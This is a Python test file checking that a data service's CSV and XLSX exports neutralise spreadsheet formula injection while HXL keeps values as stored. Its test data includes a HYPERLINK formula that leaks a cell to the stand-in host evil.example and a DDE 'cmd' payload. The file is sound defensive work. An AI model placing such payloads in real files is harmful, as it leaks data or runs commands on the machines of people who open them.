"""Downloads a spreadsheet opens cannot run a publisher's text (OWASP "CSV Injection"): CSV and XLSX text cells
beginning with =, +, -, @, tab or CR get a leading single quote, numbers stay numbers; HXL for machines keeps
every value as stored and imports back identically."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine

from lifeline.formats import Column, ResultTable, render
from lifeline.formats.writers import FORMULA_STARTS, spreadsheet_text, to_csv
from lifeline.formats.xlsx import to_xlsx
from lifeline.ingest.service import import_file
from lifeline.model.deliveries import delivery_table

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
RISKY = [LINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\uff1d1+1", "=cmd|' /C calc'!A0", "-5)+A1", "-1e3+1",
         "=5", "-", "--5"]
HARMLESS = ["UNRWA", "a = b", " =1", "2024-05-01", "", "'=already quoted", "مرحبا", "-5", "+0.25", "-1,234.5",
            "-2e3", "-12%"]


def _table(values: list[object]) -> ResultTable:
    return ResultTable(
        title="t", columns=[Column("text", "#meta+text"), Column("n", "#indicator+num")],
        rows=[{"text": v, "n": -5} for v in values] + [{"text": None, "n": -0.25}],
        sources=[{"publisher": LINK, "title": "@title", "url": None, "published": None}],
        notes=["-a note that starts like a formula"],
    )


@pytest.mark.parametrize("text", RISKY)
def test_text_beginning_like_a_formula_gets_a_single_quote(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_every_formula_start_of_owasp_is_covered() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA_STARTS)


def test_csv_neutralises_text_but_never_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table(RISKY + HARMLESS)), newline="")))
    assert rows[0] == ["text", "n"]
    texts = [r[0] for r in rows[1:]]
    assert texts[: len(RISKY)] == ["'" + t for t in RISKY]
    assert texts[len(RISKY):-1] == HARMLESS and texts[-1] == ""
    assert {r[1] for r in rows[1:-1]} == {"-5"} and rows[-1][1] in {"-0.25", "-0.2", "-0.3"}


def test_a_publisher_named_like_a_formula_cannot_inject_a_header() -> None:
    table = ResultTable(title="t", columns=[Column(f"{LINK}_trucks", "#indicator+num", f"{LINK} trucks")],
                        rows=[{f"{LINK}_trucks": 3}])
    header = next(csv.reader(io.StringIO(to_csv(table))))
    assert header == ["'" + LINK + "_trucks"]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table)))["data"]
    assert sheet["A1"].value == "'" + LINK + " trucks" and sheet["A1"].data_type == "s"


def test_xlsx_neutralises_text_cells_and_keeps_numbers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_table(RISKY + HARMLESS))))
    data = book["data"]
    cells = list(data.iter_rows(min_row=2, values_only=False))
    for (text, number), expected in zip(cells, RISKY + HARMLESS, strict=False):
        assert number.value == -5 and number.data_type == "n"
        want = "'" + expected if expected in RISKY else expected
        # XML reads a stored CR back as LF: the quote before it is what matters
        assert text.value == ((want or None) if "\r" not in want else want.replace("\r", "\n"))
        assert text.value is None or text.data_type == "s"
    about = [[c for c in row if c is not None] for row in book["about"].iter_rows(values_only=True)]
    assert ["note", "'-a note that starts like a formula"] in about
    assert ["source", "'" + LINK, "'@title"] in about
    formulas = [c.coordinate for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_hxl_keeps_the_values_and_imports_back_identically(tmp_path: Path) -> None:
    from lifeline.store.engine import open_store

    text = RISKY[0].replace('"', '""')
    listing = ("date,crossing,item,tonnes,trucks,source\n"
               "#date,#loc+crossing+name,#item+name,#indicator+num+tonnes,#indicator+num+trucks,#meta+source\n"
               f'2024-05-01,Kerem Shalom,wheat flour,20,1,"{text}"\n'
               '2024-05-02,Kerem Shalom,rice,10,1,"@SUM(1+1)"\n')
    source = tmp_path / "listing.csv"
    source.write_text(listing, encoding="utf-8")
    first_store = open_store(f"sqlite:///{tmp_path / 'first.db'}")
    second_store = open_store(f"sqlite:///{tmp_path / 'second.db'}")
    import_file(first_store, source)
    with first_store.connect() as conn:
        table = delivery_table(conn, by="day", group="crossing")
    exported = render(table, "hxl")
    assert {r["source"] for r in _rows(exported)[1:]} == {LINK, "@SUM(1+1)"}  # HXL as stored
    assert {r["source"] for r in _rows(to_csv(table))} == {"'" + LINK, "'@SUM(1+1)"}  # a CSV for people
    again = tmp_path / "exported.csv"
    again.write_text(exported, encoding="utf-8")
    report = import_file(second_store, again)
    assert report.kind == "hxl" and report.rows_rejected == 0
    with second_store.connect() as conn:
        assert render(delivery_table(conn, by="day", group="crossing"), "hxl") == exported
    assert {r["source"] for r in table.rows} == {LINK, "@SUM(1+1)"}
    first_store.dispose()
    second_store.dispose()


def test_the_api_downloads_are_neutralised(sqlite_store: Engine, tmp_path: Path) -> None:
    from tests.web.helpers import serve

    listing = tmp_path / "listing.csv"
    listing.write_text("date,crossing,item,tonnes,source\n#date,#loc+crossing+name,#item+name,"
                       f'#indicator+num+tonnes,#meta+source\n2024-05-01,Kerem Shalom,wheat flour,20,'
                       f'"{RISKY[0].replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
    import_file(sqlite_store, listing)
    served = serve(sqlite_store, tmp_path, data=False)
    try:
        params = {"by": "day", "group": "crossing"}
        got = served.client.get("/api/v1/deliveries", params=params | {"format": "csv"}).content.decode("utf-8-sig")
        book = served.client.get("/api/v1/deliveries", params=params | {"format": "xlsx"}).content
        hxl = served.client.get("/api/v1/deliveries", params=params | {"format": "hxl"}).text
        data = served.client.get("/api/v1/deliveries", params=params | {"format": "json"}).json()
    finally:
        served.client.close()
    assert {r["source"] for r in _rows(got)} == {"'" + LINK}
    sheet = openpyxl.load_workbook(io.BytesIO(book))["data"]
    assert "'" + LINK in {c for row in sheet.iter_rows(values_only=True) for c in row}
    assert {r["source"] for r in _rows(hxl)[1:]} == {LINK}
    assert {r["source"] for r in data["rows"]} == {LINK}  # JSON keeps the value as stored


def test_a_carriage_return_inside_a_cell_never_splits_the_row() -> None:
    for text in (to_csv(_table(["a\rb", "\r=1"])), to_csv(_table(["a\rb"]), hashtags=True)):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert all(len(r) == 2 for r in rows), rows
        assert text.count("\n") == len(rows) and "\r\n" not in text  # LF line ends, the CRs inside cells
